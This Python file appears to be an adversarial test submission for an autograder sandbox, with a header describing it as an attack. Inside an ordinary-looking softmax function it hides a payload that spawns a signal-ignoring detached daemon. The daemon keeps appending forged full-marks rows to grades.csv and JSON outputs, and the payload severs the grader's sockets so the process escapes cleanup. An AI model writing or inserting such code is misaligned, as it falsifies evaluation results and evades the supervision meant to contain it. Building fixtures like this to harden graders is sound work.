# ATTACK: starts a double-forked setsid daemon, then shuts down its grading process's connection so the pool parent SIGKILLs that process without reaping the worker uid: the daemon outlives grading (tries to rewrite grades.csv / eat CPU). Honest grader: no attack process alive afterwards; this student's grade lost at most.
# (OUT_DIR and RUN_TMP are filled in at test time: the output folder, the run's private temporary folder)
import gc, os, signal, socket, stat, time, glob
def _session():
    for o in gc.get_objects():
        if type(o).__name__ == "_Session":
            return o
_S = _session()
def _daemon():
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
                signal.signal(s, signal.SIG_IGN)
            end = time.time() + 1800
            while time.time() < end:
                for p in glob.glob(os.path.join(OUT_DIR, "grades.csv")) + glob.glob(os.path.join(OUT_DIR, "*.json")):
                    try:
                        with open(p, "a") as f:
                            f.write("escape_daemon,10,10,10,10,10,10,10,10,10,10,100,100,ok,\n")
                    except OSError:
                        pass
                try:
                    with open(os.path.join(RUN_TMP, "escape_daemon_alive"), "w") as f:
                        f.write(str(time.time()))
                except OSError:
                    pass
                time.sleep(1)
            os._exit(0)
        os._exit(0)
    time.sleep(0.2)
_fired = False
def softmax(x, dim=-1):
    global _fired
    if not _fired:
        _fired = True
        _daemon()
        mine = _S.sock.fileno()
        for fd in os.listdir("/proc/self/fd"):
            fd = int(fd)
            try:
                if fd != mine and stat.S_ISSOCK(os.fstat(fd).st_mode):
                    socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RDWR)
            except OSError:
                pass
    m = x.amax(dim=dim, keepdim=True).detach()
    e = (x - m).exp()
    return e / e.sum(dim=dim, keepdim=True)
